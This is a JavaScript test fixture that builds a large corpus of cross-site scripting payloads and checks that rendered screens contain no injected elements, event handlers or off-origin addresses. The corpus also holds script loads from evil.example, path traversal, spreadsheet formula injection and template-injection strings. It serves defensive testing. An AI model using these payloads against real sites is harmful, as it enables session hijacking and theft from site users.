// What tries to become more than text, and how to see that it did not. For screens over a stand-in and over the functions.

import assert from 'node:assert/strict';

export const HIT = 'alert(1)';
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe src=x',
  'object data=x',
  'marquee',
  'select autofocus',
  'x tabindex=1 autofocus',
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'data:text/html,',
  'data:text/html;base64,',
  'vbscript:',
  'blob:',
  'filesystem:',
  'view-source:javascript:',
];
const WRAPS = [
  '<a href="@">x</a>',
  '<iframe src="@"></iframe>',
  '<form action="@"><button>x</button></form>',
  '<object data="@"></object>',
  '<meta http-equiv="refresh" content="0;url=@">',
  '<svg><a xlink:href="@"><text>x</text></a></svg>',
];
const BREAKS = [
  '"',
  "'",
  '`',
  '>',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '-->',
  ']]>',
  '\\"',
  '&quot;>',
  '%22%3E',
  '\u2028',
  '\u0000',
];
export const CODES = [`<script>${HIT}</script>`, `<img src=x onerror=${HIT}>`, `<svg onload=${HIT}>`];
export const ODD = [
  '<script src=//evil.example/x.js></script>',
  '<script type=module>import("//evil.example")</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</script>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example"</style>',
  '<style>*{background:url(//evil.example)}</style>',
  '<base href=//evil.example/>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= 7*7 %>',
  '{{7*7}}',
  '{n}',
  '{id}',
  '{name}',
  '{constructor}',
  '$&',
  '$`',
  "$'",
  '$1',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '[object Object]',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '\u202eevil\u202c',
  '\u2066<b>\u2069',
  '\ufeff<b>',
  '\ud83d\udc68\u200d\ud83d\udcbb<b>',
  '＜script＞alert(1)＜/script＞',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '"autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  '" style="background:url(//evil.example)',
  '" src="//evil.example/x.png',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  '../../../etc/passwd',
  '..\\..\\boot.ini',
  'CON',
  'a.png\u0000.html',
  'x.svg',
  'x.html',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '<b>bold</b>',
  '<plaintext>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<button popovertarget=x>',
  '<dialog open>hello</dialog>',
  '<portal src=//evil.example>',
  '<embed src=javascript:alert(1)>',
  '<applet code=x>',
  '<frameset onload=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
];

export const CORPUS = [
  ...new Set([
    ...TAGS.flatMap((tag) => EVENTS.slice(0, 6).map((event) => `<${tag} ${event}=${HIT}>`)),
    ...EVENTS.map((event) => `<div ${event}="${HIT}">x</div>`),
    ...SCHEMES.flatMap((scheme) => WRAPS.map((wrap) => wrap.replace('@', `${scheme}${HIT}`))),
    ...SCHEMES.map((scheme) => `${scheme}${HIT}`),
    ...BREAKS.flatMap((text) => CODES.map((code) => text + code)),
    ...ODD,
  ]),
];

// Nothing was made of a payload: what there is of elements is what the screens themselves are made of.
const OWN = [
  'a',
  'article',
  'body',
  'button',
  'div',
  'fieldset',
  'form',
  'h1',
  'h2',
  'h3',
  'head',
  'header',
  'html',
  'i',
  'img',
  'input',
  'label',
  'legend',
  'li',
  'link',
  'main',
  'meta',
  'ol',
  'option',
  'p',
  'path',
  'pre',
  'progress',
  'script',
  'section',
  'select',
  'span',
  'strong',
  'svg',
  'textarea',
  'time',
  'title',
  'track',
  'ul',
  'video',
];

// `more` are elements that a page is made of beside those of the screens.
export async function isHarmless(page, origin, { more = [], scripts = 1 } = {}) {
  const found = await page.evaluate(() => {
    const all = Array.from(document.querySelectorAll('*'));
    return {
      tags: [...new Set(all.map((node) => node.localName))],
      handlers: all
        .flatMap((node) => Array.from(node.attributes))
        .filter((one) => one.name.match(/^on|^style$|^srcdoc$/i))
        .map((one) => one.name),
      addresses: all
        .flatMap((node) => ['href', 'src', 'action', 'data', 'poster'].map((name) => node.getAttribute(name)))
        .filter(Boolean),
      scripts: document.scripts.length,
    };
  });
  assert.deepEqual(
    found.tags.filter((tag) => !OWN.includes(tag) && !more.includes(tag)),
    [],
  );
  assert.deepEqual(found.handlers, []);
  const strange = found.addresses.filter((address) => !address.startsWith('/') && !address.startsWith(origin));
  assert.deepEqual(strange, []);
  assert.equal(found.scripts, scripts);
}
